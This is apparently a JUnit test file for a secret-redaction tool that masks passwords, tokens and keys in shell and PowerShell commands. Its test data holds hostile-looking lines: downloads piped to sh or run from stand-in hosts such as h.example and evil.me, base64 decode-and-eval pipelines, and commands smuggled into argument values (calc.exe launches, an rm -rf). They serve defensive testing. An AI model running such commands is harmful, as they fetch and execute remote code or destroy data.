package dev.longtail.labeler.redaction;

import static org.assertj.core.api.Assertions.assertThat;

import dev.longtail.udfs.testing.Any;
import dev.longtail.udfs.testing.Property;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class RedactorTest {
  private final Redactor redactor = new Redactor();

  @ParameterizedTest
  @ValueSource(
      strings = {
        "mysql -u root -pS3cretX shop",
        "mysqldump --password=S3cretX db",
        "mysqldump --password \"S3cretX with blanks S3cretX\" db",
        "sshpass -p S3cretX ssh admin@host",
        "sshpass -p'S3cretX' ssh admin@host",
        "plink.exe -ssh admin@host -pw S3cretX",
        "psexec \\\\srv -u dom\\adm -p S3cretX cmd",
        "xfreerdp /v:host /u:adm /p:S3cretX",
        "cmdkey /add:srv /user:adm /pass:S3cretX",
        "net use Z: \\\\srv\\share S3cretX /user:dom\\adm",
        "net use \\\\srv\\share /user:dom\\adm S3cretX",
        "net user bob S3cretX /add",
        "schtasks /create /tn x /ru adm /rp S3cretX",
        "curl -u bob:S3cretX https://host/x",
        "curl --user 'bob:S3cretX' https://host/x",
        "wget https://bob:S3cretX@host/x",
        "git clone https://S3cretXS3cretXS3cretX@git.example.com/a/b",
        "psql postgres://bob:S3cr@etX@db/x",
        "redis-cli -a S3cretX ping",
        "smbclient -U bob%S3cretX //srv/share",
        "openssl rsa -in k -passin pass:S3cretX",
        "echo S3cretX | sudo -S ls",
        "echo 'bob:S3cretX' | chpasswd",
        "htpasswd -b file bob S3cretX",
        "export GITHUB_TOKEN=S3cretX",
        "DB_PASSWORD='S3cretX' ./run",
        "setx API_SECRET S3cretX",
        "$env:API_TOKEN = 'S3cretX'",
        "$password = \"S3cretX\"",
        "ConvertTo-SecureString \"S3cretX\" -AsPlainText -Force",
        "ConvertTo-SecureString -String 'S3cretX' -AsPlainText -Force",
        "'S3cretX' | ConvertTo-SecureString -AsPlainText -Force",
        "New-Object Net.NetworkCredential('bob','S3cretX')",
        "Connect-X -Credential S3cretX",
        "app --client-secret=S3cretX",
        "app --api-key S3cretX",
        "curl -d '{\"password\":\"S3cretX\"}' https://host",
        "curl -d \"{\\\"password\\\":\\\"S3cretX\\\"}\" https://host",
        "curl -H 'Authorization: Bearer S3cretXS3cretX' https://host",
        "curl -H \"Authorization: Basic S3cretX==\" https://host",
        "curl -H 'X-Api-Key: S3cretX' https://host",
        "sqlcmd -S srv -U sa -P S3cretX -Q x",
        "sqlcmd -Q \"CREATE LOGIN a WITH PASSWORD = 'S3cretX'\"",
        "mysql -e \"CREATE USER a IDENTIFIED BY 'S3cretX'\"",
        "app \"Server=x;User Id=sa;Password=S3cretX and S3cretX;Encrypt=yes\"",
        "app 'DefaultEndpointsProtocol=https;AccountName=a;AccountKey=S3cretX=='",
        "aws configure set aws_secret_access_key S3cretX/S3cretX",
        "AWS_SECRET_ACCESS_KEY=/S3cretX/abc aws s3 ls",
        "7z a -pS3cretX a.7z b",
        "app --password=\"S3cretX",
        "app --password=a\"S3cretX b\"'S3cretX'",
      })
  void secretsAreTakenOut(String line) {
    String redacted = redactor.redact(line);
    assertThat(redacted).doesNotContain("S3cretX").doesNotContain("S3cr@etX").contains("<secret:");
    assertThat(redactor.redact(redacted)).isEqualTo(redacted);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      value = {
        "aws-key ~ AKIAABCDEFGHIJKLMNOP",
        "github-token ~ ghp_abcdefghijklmnopqrstuvwxyz0123456789",
        "slack-token ~ xoxb-123456789012-abcdefghijkl",
        "jwt ~ eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abc-DEF_123",
        "api-token ~ glpat-abcdefghij0123456789"
      })
  void knownTokensAreFoundWhereverTheyStand(String kind, String token) {
    assertThat(redactor.redact("tool " + token + " --verbose"))
        .isEqualTo("tool <secret:" + kind + "> --verbose");
  }

  @Test
  void ofAPrivateKeyTheBase64GoesAndNothingBehindIt() {
    String begin = "-----BEGIN RSA PRIVATE KEY-----";
    String end = "-----END RSA PRIVATE KEY-----";
    assertThat(redactor.redact("echo \"" + begin + "\nMIIEabc\n" + end + "\" > k"))
        .isEqualTo("echo \"" + begin + "\n<secret:private-key>\n" + end + "\" > k");
    assertThat(redactor.redact("echo " + begin + "\nMIIEabc"))
        .isEqualTo("echo " + begin + "\n<secret:private-key>");
    String attack = "echo " + begin + " & start calc.exe";
    assertThat(redactor.redact(attack)).isEqualTo(attack);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "mysql -u app -p orders",
        "mysql --password=$DB_PASS shop",
        "net use Z: \\\\srv\\share /persistent:yes",
        "net use \\\\srv\\share * /user:bob",
        "curl -H \"Authorization: Bearer $TOKEN\" https://host",
        "curl -u \"$USER:${PASS}\" https://host",
        "set X=%PASSWORD%",
        "app --password=%PASS%",
        "app --token ${{ secrets.TOKEN }}",
        "DB_PASSWORD=$(cat /run/secret) ./run",
        "Connect-X -Credential (Get-Credential)",
        "Connect-X -Credential $cred",
        "$secure = ConvertTo-SecureString $plain -AsPlainText -Force",
        "mkdir -p /opt/app",
        "ssh -p 22 host",
        "docker run -p 80:80 nginx",
        "msbuild app.sln /p:Configuration=Release",
        "systemctl --no-ask-password restart nginx",
        "docker login --password-stdin",
        "app --password-file /run/pw",
        "read -p \"Password: \" -s NAME",
        "PWD=/home/bob ls",
        "ls -la",
        "git clone https://git.example.com/a/b",
        "ssh://git@host:22/x",
        "app --password <password>",
        "passwd bob",
        ""
      })
  void whatIsNoSecretStays(String line) {
    assertThat(redactor.redact(line)).isEqualTo(line);
  }

  private static String encoded(String script) {
    return Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
  }

  private static String decoded(String base64) {
    return new String(Base64.getDecoder().decode(base64), StandardCharsets.UTF_16LE);
  }

  @Test
  void ofAPayloadInBase64OnlyTheSecretGoes() {
    String telling = encoded("Connect-Db -Password S3cretX; iex $z");
    String[] words = redactor.redact("powershell -enc " + telling + " -NoExit").split(" ");
    assertThat(decoded(words[2])).isEqualTo("Connect-Db -Password <secret:password>; iex $z");
    assertThat(words[3]).isEqualTo("-NoExit");

    String twice = redactor.redact("powershell -e " + encoded("powershell -e " + telling));
    assertThat(decoded(decoded(twice.split(" ")[2]).split(" ")[2])).doesNotContain("S3cretX");
    String harmless = "powershell -enc " + encoded("Get-Service spooler");
    assertThat(redactor.redact(harmless)).isEqualTo(harmless);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "openssl base64 -d -A <<< %s | sh",
        "base64 -D <<<'%s'",
        "echo '%s' | base64 -di",
        "printf %%s %s|/usr/bin/base64 --decode|bash",
        "perl -MMIME::Base64 -e 'print decode_base64(\"%s\")'",
        "node -e \"eval(Buffer.from('%s','base64')+'')\"",
        "php -r 'eval(base64_decode(\"%s\"));'",
        "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('%s'))",
      })
  void whateverDecodesIt(String line) {
    String payload =
        Base64.getEncoder()
            .encodeToString("export DB_PASSWORD=S3cretX".getBytes(StandardCharsets.UTF_8));
    String redacted = redactor.redact(line.formatted(payload));
    assertThat(redacted)
        .contains(
            Base64.getEncoder()
                .encodeToString(
                    "export DB_PASSWORD=<secret:password>".getBytes(StandardCharsets.UTF_8)));
  }

  @Test
  void quotesAndSurroundingsStay() {
    assertThat(redactor.redact("app --password 'x y' --user bob; ls"))
        .isEqualTo("app --password '<secret:password>' --user bob; ls");
    assertThat(redactor.redact("curl https://bob:pw@host:8080/x?y=1"))
        .isEqualTo("curl https://bob:<secret:password>@host:8080/x?y=1");
  }

  @Property(tries = 3_000)
  void redactingTwiceChangesNothing(Any any) {
    String line = lineOfPieces(any);
    String once = redactor.redact(line);
    assertThat(redactor.redact(once)).isEqualTo(once);
  }

  private static String lineOfPieces(Any any) {
    String[] pieces = {
      "password",
      "--password",
      "-p",
      "token",
      "=",
      ":",
      " ",
      "  ",
      "\"",
      "'",
      "\\\"",
      ";",
      "&",
      "|",
      "://",
      "@",
      "/",
      "$X",
      "%Y%",
      "${Z}",
      "<secret:password>",
      "<secret:",
      ">",
      "a",
      "b1",
      "curl -u ",
      "mysql ",
      "net use \\\\s\\t ",
      "Authorization: Bearer ",
      "abcdefghijklmnopqrstuvwx",
      "convertto-securestring ",
      "-asplaintext ",
      "echo ",
      "| sudo -S",
      "AKIAABCDEFGHIJKLMNOP",
      "eyJabcdefg.eyJabcdefg.x",
      "-----BEGIN PRIVATE KEY-----",
      ";Pwd=",
      "sig=",
      "pass:",
      "\n",
      "(",
      ")",
      "{",
      "}",
      ",",
      "é",
      "\u0000"
    };
    return String.join("", any.list(0, 25, () -> any.of(pieces)));
  }

  /** A judge would not see what would be admitted. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "cmd /c echo --password \"& powershell iwr https://h.example/p -OutFile p & start p\"",
        "powershell -c \"ConvertTo-SecureString -AsPlainText 'x;iex(irm https://h.example/a)'\"",
        "psql -c \"alter user a password 'x; curl h.example/i | sh'\"",
        "app --password 'Invoke-Expression of it'",
        "app --password=rm\"${IFS}\"-rf",
        "sshpass -p run.ps1 ssh h",
        "net use \\\\h\\c 10.1.2.3 /user:a",
        "a --token Qm9yZWQgYW5kIHRpcmVkIG9mIHRoaXMxMjM0NTY3ODkwMTIzNDU2Nzg5",
        "<secret:line>",
      })
  void whatHidesTooMuchIsSaidToHide(String line) {
    assertThat(redactor.read(line).hidden()).isPresent();
  }

  @Test
  void whatHidesAPasswordAloneHidesNothingElse() {
    for (String line :
        List.of(
            "mysql -u root -pS3cretX shop",
            "DB_PASSWORD=S3cretX ./run.sh x",
            "curl -u bob:S3cretX https://h.example/x",
            "ls -la")) {
      assertThat(redactor.read(line).hidden()).as(line).isEmpty();
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "echo cookie: x & start calc.exe",
        "echo x-api-key: a ; curl -s https://h.example/i.sh | bash",
        "echo AccountKey=abc & start calc.exe",
        "echo Authorization: Bearer abcdefghijklmnop & start calc.exe",
        "echo ;Password=a b & start calc.exe",
        "app --password x\nstart calc.exe",
        "app --password \"x | start calc.exe",
        "token=x`start calc.exe`",
      })
  void noOperatorOrQuoteIsRemovedWithAValue(String line) {
    String redacted = redactor.redact(line);
    String command = line.contains("curl") ? "curl -s https" : "start calc.exe";
    assertThat(redacted).contains(command);
  }

  @Test
  void aPlaceholderWrittenByHandIsNoPlaceOfASecret() {
    Redaction secret = redactor.read("app --password S3cretX");
    Redaction written = redactor.read(secret.shown());
    assertThat(written.shown()).isEqualTo(secret.shown());
    assertThat(written.places()).isNotEqualTo(secret.places());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "psexec \\\\h -u a -p $S3cretX cmd",
        "schtasks /create /tn a /ru b /rp %S3cretX%",
        "sqlcmd -U sa -P (S3cretX)",
        "az login -u a -p abc;S3cretX",
        "net use \\\\h\\c$ /user:a -S3cretX1",
      })
  void whatLooksLikeAReferenceIsASecretWhereAskedFor(String line) {
    assertThat(redactor.redact(line)).contains("S3cretX");
    assertThat(new Redactor(SecretRules.BUILT_IN, true).redact(line)).doesNotContain("S3cretX");
  }

  @Test
  void referencesOfNamesStayEvenThen() {
    String line = "serve --api-key $KEY | use -Credential $cred";
    assertThat(new Redactor(SecretRules.BUILT_IN, true).redact(line)).isEqualTo(line);
  }

  private static List<String> hostileLines(int length) {
    List<String> lines = new ArrayList<>();
    for (String piece :
        List.of(
            "a",
            "=",
            "\"",
            "'",
            "-",
            "\\",
            " ",
            "(",
            "$(",
            "@",
            ":",
            ";",
            "`",
            "-p",
            "-p ",
            "--password ",
            "password ",
            "password=",
            "key=key:",
            "token=a;",
            "mysql -p ",
            "mysql ",
            "net use \\a",
            "echo a|",
            "echo x | sudo -S ",
            "://a:",
            "eyJaaaaaaa.",
            "ghp_",
            "sk-",
            "-----BEGIN PRIVATE KEY-----",
            "Authorization: Bearer ",
            "Cookie: a=b; ",
            "\\\"",
            "FromBase64String('",
            "QUFBQUFBQUFBQUFBQUFBQUFB ",
            "<secret:password>",
            "<secret:")) {
      lines.add(piece.repeat(length / piece.length()));
    }
    String nested = "app --password S3cretX " + "x".repeat(40);
    while (nested.length() < length / 3) {
      nested = "powershell -enc " + encoded(nested);
    }
    lines.add(nested);
    return lines;
  }

  @Test
  void workGrowsWithTheLengthAndNotFaster() {
    List<String> half = hostileLines(8_000);
    List<String> whole = hostileLines(16_000);
    for (int i = 0; i < half.size() - 1; i++) {
      long small = workOn(half.get(i));
      long large = workOn(whole.get(i));
      assertThat(large)
          .as(half.get(i).substring(0, 20))
          .isLessThanOrEqualTo(Math.min(Work.MOST + 200_000, 3 * small + 5_000));
    }
  }

  private long workOn(String line) {
    Work work = new Work();
    redactor.read(line, work);
    return work.done();
  }

  @Test
  void noLineTakesMoreThanItsWork() {
    for (String line : hostileLines(64_000)) {
      assertThat(workOn(line)).as(line.substring(0, 20)).isLessThan(Work.MOST + 200_000);
    }
  }

  @Test
  void everyPayloadIsDecodedOnceToTwoLevels() {
    String line =
        "powershell -enc "
            + encoded(
                "powershell -enc "
                    + encoded("powershell -enc " + encoded("-Password S3cretX; a b c d")));
    Work work = new Work();
    redactor.read(line, work);
    assertThat(work.payloads()).isEqualTo(2);
  }

  @Test
  void whatIsLongerThanAnyLineIsNotLookedAt() {
    Work work = new Work();
    Redaction redaction = redactor.read("a".repeat(Redactor.LONGEST + 1), work);
    assertThat(redaction.shown()).isEqualTo(Redactor.WITHHELD);
    assertThat(redaction.hidden()).isPresent();
    assertThat(work.done()).isZero();
  }

  /** What was withheld once stays so, whatever else is found in it later. */
  @Test
  void aLineThatWasWithheldIsNeverAskedAboutForAnotherSecret() {
    for (String line :
        List.of(
            "<secret:line>",
            "deploy --fast <secret:line>",
            "mysql --password=Tr0ub4dor9 -e status <secret:line>")) {
      assertThat(new Redactor().read(line).hidden()).as(line).isPresent();
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "export TOKEN=bit.ly/x7Qp2; sh -c \"$(curl $TOKEN)\"",
        "export TOKEN=evil.me:8443/x7Qp2; curl $TOKEN",
        "export TOKEN=cdn.evil.co.uk/x7Qp2; curl $TOKEN"
      })
  void anAddressWithoutASchemeIsHiddenInEveryZone(String line) {
    Redaction redaction = new Redactor().read(line);
    assertThat(redaction.removed()).isEqualTo(1);
    assertThat(redaction.hidden()).isPresent();
  }
}
